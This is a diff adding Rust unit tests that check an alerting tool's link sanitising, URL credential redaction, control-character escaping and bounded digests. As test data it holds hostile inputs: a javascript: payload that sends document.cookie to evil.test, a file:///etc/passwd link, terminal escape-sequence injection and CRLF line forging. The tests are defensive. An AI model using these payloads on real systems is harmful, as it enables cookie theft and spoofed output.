@@ -913,6 +913,108 @@ mod tests {
     }
 
     #[test]
+    fn links_are_only_http_and_never_carry_credentials() {
+        for (url, expected) in [
+            ("http://prometheus:9090/graph?g0.expr=up", Some("http://prometheus:9090/graph?g0.expr=up")),
+            ("https://u:hunter2@grafana.test/d/1", Some("https://grafana.test/d/1")),
+            ("https://only-user@grafana.test/", Some("https://grafana.test/")),
+            ("javascript:alert(document.cookie)", None),
+            ("JaVaScRiPt:alert(1)", None),
+            (" javascript:alert(1)", None),
+            ("data:text/html;base64,PHNjcmlwdD4=", None),
+            ("file:///etc/passwd", None),
+            ("vbscript:msgbox", None),
+            ("/relative/path", None),
+            ("http://", None),
+        ] {
+            assert_eq!(safe_link(url).as_deref(), expected, "{url}");
+        }
+        assert_eq!(
+            redact_url_credentials("http://admin:hunter2@am.test:9093/x"),
+            "http://redacted@am.test:9093/x"
+        );
+        assert_eq!(redact_url_credentials("http://am.test/"), "http://am.test/");
+        assert_eq!(redact_url_credentials("not a url"), "not a url");
+    }
+
+    #[test]
+    fn what_channels_send_has_escaped_text_and_safe_links() {
+        let mut e = hostile();
+        e.generator_url = Some("javascript:fetch('//evil.test/'+document.cookie)".into());
+        e.silence_url = Some("http://admin:hunter2@am.test/#/silences/new".into());
+        e.alertname = Some("Disk\u{1b}]8;;http://evil.test\u{7}full\r\nX: y".into());
+        e.annotations
+            .insert("runbook".into(), "line 1\r\nline 2\u{1b}[31m".into());
+        let shown = e.for_humans();
+        assert_eq!(shown.generator_url, None);
+        assert_eq!(
+            shown.silence_url.as_deref(),
+            Some("http://am.test/#/silences/new")
+        );
+        assert_eq!(
+            shown.alertname.as_deref(),
+            Some("Disk\\u{1b}]8;;http://evil.test\\u{7}full\\r\\nX: y")
+        );
+        assert_eq!(shown.annotations["runbook"], "line 1\\r\nline 2\\u{1b}[31m");
+        let json = serde_json::to_string(&shown).unwrap();
+        for forbidden in ["\\u001b", "\\u0007", "hunter2", "javascript:"] {
+            assert!(!json.contains(forbidden), "{forbidden} in {json}");
+        }
+        // What a consumer decodes holds no control character but line breaks and tabs.
+        fn strings(value: &serde_json::Value, out: &mut Vec<String>) {
+            match value {
+                serde_json::Value::String(s) => out.push(s.clone()),
+                serde_json::Value::Array(items) => items.iter().for_each(|v| strings(v, out)),
+                serde_json::Value::Object(fields) => fields.iter().for_each(|(k, v)| {
+                    out.push(k.clone());
+                    strings(v, out)
+                }),
+                _ => {}
+            }
+        }
+        let mut all = Vec::new();
+        strings(&serde_json::to_value(&shown).unwrap(), &mut all);
+        for text in all {
+            assert!(
+                !text.chars().any(|c| c.is_control() && c != '\n' && c != '\t'),
+                "{text:?}"
+            );
+        }
+        // Escaping twice changes nothing: what was escaped stays readable.
+        assert_eq!(shown.for_humans(), shown);
+        let text = render_text(&e);
+        assert!(!text.contains("javascript:"), "{text}");
+        assert!(!text.contains("hunter2"), "{text}");
+    }
+
+    #[test]
+    fn a_digest_lists_a_bounded_number_and_counts_them_all() {
+        let escalations: Vec<Escalation> = (0..1000)
+            .map(|n| {
+                let mut e = sample();
+                e.incident_id = n;
+                e.reason = EscalationReason::Novel;
+                e.alertname = Some(if n % 10 == 0 { "Rare\nForged: line".into() } else { "Common".into() });
+                e.summary = format!("novel: no recipe handles alert {n}\u{1b}[2J");
+                e
+            })
+            .collect();
+        let digest = Digest::new(7, EscalationReason::Novel, &escalations, sample().created_at);
+        assert_eq!(digest.count, 1000);
+        assert_eq!(digest.incidents.len(), 1000);
+        assert_eq!(digest.by_alertname["Common"], 900);
+        assert_eq!(digest.by_alertname["Rare\\nForged: line"], 100);
+        assert_eq!(digest.by_host["web1"], 1000);
+        let text = render_digest_text(&digest);
+        assert!(text.starts_with("digest #7: 1000 incident(s) escalated (novel): Common ×900, Rare\\nForged: line ×100\n"), "{text}");
+        assert_eq!(text.matches("\n  #").count(), DIGEST_LISTED, "{text}");
+        assert!(text.contains("… and 950 more"), "{text}");
+        assert!(!text.contains('\u{1b}'), "{text}");
+        assert!(!text.lines().any(|l| l.starts_with("Forged")), "{text}");
+        assert!(text.len() < 16 * 1024, "{} bytes", text.len());
+    }
+
+    #[test]
     fn escalation_round_trips_through_json_with_snake_case_reason() {
         let e = hostile();
         let json = serde_json::to_value(&e).unwrap();
